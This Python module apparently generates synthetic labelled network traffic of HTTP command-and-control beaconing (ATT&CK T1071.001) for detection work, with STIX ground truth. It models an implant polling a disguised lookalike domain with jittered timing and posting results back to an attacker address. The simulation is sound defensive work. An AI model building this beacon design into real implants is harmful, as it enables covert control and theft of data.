"""Command and control over HTTP with jittered beacons (ATT&CK T1071.001)."""

from __future__ import annotations

from pydantic import Field

from scenarios.frames import TimedPacket, address_sco, record_type
from scenarios.protocols.dns import dns_exchange
from scenarios.protocols.http import http_request, http_response, http_session
from scenarios.techniques.base import (
    Context,
    Emission,
    GroundTruth,
    Technique,
    TechniqueParams,
    stix_string,
)


class BeaconParams(TechniqueParams):
    domain: str = "update.windows-telemetry.example"
    """The C2 server's name (resolved through the team's DNS to the attacker address)."""
    path: str = "/api/v2/status"
    interval: float = Field(default=60.0, gt=0.5, le=86400)
    """Seconds between beacons."""
    jitter: float = Field(default=0.2, ge=0.0, lt=1.0)
    """Each sleep is ``interval`` times a uniform factor in [1 - jitter, 1 + jitter]."""
    beacons: int = Field(default=15, ge=1, le=2000)
    user_agent: str = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"


def resolve(ctx: Context, name: str, answer: str, when: float) -> list[TimedPacket]:
    """The victim's lookup of ``name`` through the team resolver (none without one): an A
    query answered with ``answer``, AAAA when ``answer`` is IPv6."""
    if ctx.dns is None:
        return []
    return dns_exchange(
        ctx.target,
        ctx.dns,
        name,
        when,
        ctx.rng,
        qtype=record_type(answer),
        answers=[answer],
        ttl=60,
    )


class HttpC2Beacon(Technique):
    """An implant on the target polls its C2 over plain HTTP; some polls get tasks."""

    name = "http-c2-beacon"
    attack_ids = ("T1071.001",)
    summary = "HTTP C2 beaconing with jitter"
    Params = BeaconParams

    def generate(self, ctx: Context, params: BeaconParams) -> Emission:  # type: ignore[override]
        rng = ctx.rng
        implant = rng.randbytes(6).hex()
        now = ctx.start
        packets: list[TimedPacket] = []
        for n in range(params.beacons):
            if n % 5 == 0:  # the implant re-resolves when its cached TTL expires
                packets += resolve(ctx, params.domain, ctx.attacker.ip, now)
                now += 0.01
            tasked = rng.random() < 0.2
            body = b'{"task":"sysinfo","args":[]}' if tasked else b'{"task":null}'
            exchanges = [
                (
                    http_request(
                        "GET",
                        f"{params.path}?id={implant}&n={n}",
                        params.domain,
                        user_agent=params.user_agent,
                    ),
                    http_response(200, body, content_type="application/json", server="Apache"),
                )
            ]
            if tasked:
                result = rng.randbytes(rng.randint(200, 1200)).hex().encode()
                exchanges.append(
                    (
                        http_request(
                            "POST",
                            f"{params.path}?id={implant}",
                            params.domain,
                            headers=[("Content-Type", "application/octet-stream")],
                            body=result,
                            user_agent=params.user_agent,
                        ),
                        http_response(204, server="Apache"),
                    )
                )
            session = http_session(ctx.target, ctx.attacker, 80, now, rng, exchanges)
            packets += session.packets
            now += params.interval * rng.uniform(1 - params.jitter, 1 + params.jitter)
        packets.sort(key=lambda p: p.time)
        truth = GroundTruth(
            observables=(
                {"type": "domain-name", "value": params.domain},
                address_sco(ctx.attacker.ip),
                {"type": "url", "value": f"http://{params.domain}{params.path}"},
            ),
            pattern=f"[domain-name:value = {stix_string(params.domain)}]",
            description=(
                f"implant {implant} on {ctx.target.ip} beacons to {params.domain} "
                f"every {params.interval:g}s ±{params.jitter:.0%}"
            ),
        )
        return Emission(tuple(packets), truth)
